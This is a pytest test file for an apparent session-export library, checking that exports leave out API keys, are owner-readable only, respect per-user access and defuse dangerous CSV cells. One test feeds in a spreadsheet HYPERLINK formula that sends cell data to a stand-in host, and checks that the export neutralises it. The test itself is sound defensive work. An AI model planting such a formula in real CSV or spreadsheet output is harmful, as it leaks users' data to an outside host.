"""Exports of sessions, comparisons and batches: the files hold what happened, and never a key."""

from __future__ import annotations

import csv
import io
import json
import os
import stat

import pytest
from conftest import RecordingModel

from nbsessions import Agent, ModelError, SessionAccessError, TinyDb
from nbsessions.__main__ import main
from nbsessions.explore import batch, compare, contains, export_result, export_session, is_json
from nbsessions.llm import OpenAIChat

SECRET = "sk-test-never-in-an-export-0123456789"


@pytest.fixture(autouse=True)
def no_openai_env(monkeypatch):
    for name in ("OPENAI_API_KEY", "OPENAI_BASE_URL"):
        monkeypatch.delenv(name, raising=False)


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def session_db(tmp_path, openai_server):
    """A TinyDb session with a completed run and a failed one, made through a model holding an API key."""
    openai_server.script("Paris is the capital.")
    openai_server.fail_next(None, "error-500")
    db = TinyDb(tmp_path / "nb.nbsessions.json")
    agent = Agent(model=OpenAIChat("gpt-x", base_url=openai_server.base_url, api_key=SECRET, max_retries=0), db=db)
    session = agent.create_session("geography")
    agent.run("Capital of France?", session_id=session.session_id)
    with pytest.raises(ModelError):
        agent.run("And of Spain?", session_id=session.session_id)
    yield agent, session.session_id
    db.close()


def test_a_session_exports_to_md_json_and_csv_without_the_api_key(session_db, tmp_path):
    agent, sid = session_db
    texts = {fmt: export_session(agent, sid, fmt, tmp_path / f"s.{fmt}") for fmt in ("md", "json", "csv")}
    for fmt, text in texts.items():
        assert SECRET not in text
        assert (tmp_path / f"s.{fmt}").read_text(encoding="utf-8") == text
    assert "# geography" in texts["md"] and "Paris is the capital." in texts["md"]
    assert "Capital of France?" in texts["md"] and "error" in texts["md"]
    payload = json.loads(texts["json"])
    assert [r["status"] for r in payload["runs"]] == ["completed", "error"]
    rows = read_csv(texts["csv"])
    assert [(r["input"], r["status"], r["content"]) for r in rows] == [
        ("Capital of France?", "completed", "Paris is the capital."), ("And of Spain?", "error", "")]
    assert rows[1]["error"].startswith("500 server error") and rows[0]["session_name"] == "geography"
    assert int(rows[0]["output_tokens"]) > 0 and rows[0]["model"] == "gpt-x"


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.fixture
def usual_umask():
    previous = os.umask(0o022)  # the usual umask: a plain open() would give 0644
    yield
    os.umask(previous)


def test_every_export_file_is_created_readable_by_its_owner_only(session_db, tmp_path, usual_umask):
    agent, sid = session_db
    export_session(agent, sid, "md", tmp_path / "api.md")
    result = batch(Agent(model=RecordingModel("ok")), "q {n}", [{"n": 1}], progress=False)
    export_result(result, "csv", tmp_path / "batch.csv")
    existing = tmp_path / "was-public.json"
    existing.write_text("old")
    existing.chmod(0o644)
    export_session(agent, sid, "json", existing)
    agent.db.close()
    assert main(["export", str(tmp_path / "nb.nbsessions.json"), sid, "-o", str(tmp_path / "cli.md")],
                out=io.StringIO()) == 0
    for name in ("api.md", "batch.csv", "was-public.json", "cli.md"):
        assert mode(tmp_path / name) == 0o600, name
    assert json.loads(existing.read_text())["runs"]


def test_a_session_exports_straight_from_a_store_too(session_db):
    agent, sid = session_db
    assert export_session(agent.db, sid, "csv") == export_session(agent, sid, "csv")


def test_exporting_another_users_session_is_refused(tmp_path):
    db = TinyDb(tmp_path / "users.json")
    alice = Agent(model=RecordingModel("hi"), db=db, user_id="alice")
    sid = alice.run("hello").session_id
    with pytest.raises(SessionAccessError):
        export_session(Agent(db=db, user_id="bob"), sid, "md")
    db.close()


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_defused():
    agent = Agent(model=RecordingModel('=HYPERLINK("http://x.example/?"&A1,"click")'))
    result = batch(agent, "{q}", [{"q": "@SUM(A1)"}], progress=False)
    row = read_csv(export_result(result, "csv"))[0]
    assert row["content"] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")" and row["q"] == "'@SUM(A1)"
    assert json.loads(export_result(result, "json"))["rows"][0]["content"].startswith("=HYPERLINK")


def test_a_comparison_exports_one_record_per_cell_with_its_checks():
    agent = Agent(model=RecordingModel("{}", id="json-bot"))
    result = compare(agent, "Give JSON", models=[agent.model, RecordingModel("no", id="prose-bot")],
                     checks=[is_json])
    rows = read_csv(export_result(result, "csv"))
    assert [(r["model"], r["status"], r["check:is_json"], r["passed"]) for r in rows] == [
        ("json-bot", "completed", "True", "True"), ("prose-bot", "completed", "False", "False")]
    payload = json.loads(export_result(result, "json"))
    assert payload["format"] == "nbsessions.comparison" and payload["prompt"] == "Give JSON"
    assert payload["pass_rates"] == {"json-bot": 1.0, "prose-bot": 0.0} and len(payload["cells"]) == 2
    md = export_result(result, "markdown")
    assert "| json-bot | completed |" in md and "## prose-bot" in md and "✗ is_json (not JSON" in md
    assert "Pass rate: json-bot 100% · prose-bot 0%" in md


def test_a_batch_exports_in_input_order_and_model_text_stays_as_written_in_markdown(tmp_path):
    reply = "Use `<script>` tags | carefully"
    agent = Agent(model=RecordingModel(reply))
    result = batch(agent, "Row {n}: ```{n}```", [{"n": 0}, {"n": 1}], checks=[contains("script")], progress=False)
    md = export_result(result, "md", tmp_path / "batch.md")
    assert (tmp_path / "batch.md").read_text(encoding="utf-8") == md
    assert md.index("## Row 0") < md.index("## Row 1") and md.count(reply) == 2
    assert "````\nRow {n}: ```{n}```\n````" in md  # a longer fence: a prompt cannot close it
    assert "| row 0 | completed |" in md
    payload = json.loads(export_result(result, "json"))
    assert payload["format"] == "nbsessions.batch" and [r["n"] for r in payload["rows"]] == [0, 1]
    assert payload["session_id"] == result.session_id and payload["pass_rate"] == 1.0


def test_unknown_formats_and_objects_are_refused():
    result = batch(Agent(model=RecordingModel("x")), "{n}", [{"n": 1}], progress=False)
    with pytest.raises(ValueError, match="use md, json or csv"):
        export_result(result, "xlsx")
    with pytest.raises(TypeError, match="Comparison or a BatchResult"):
        export_result([1, 2], "json")
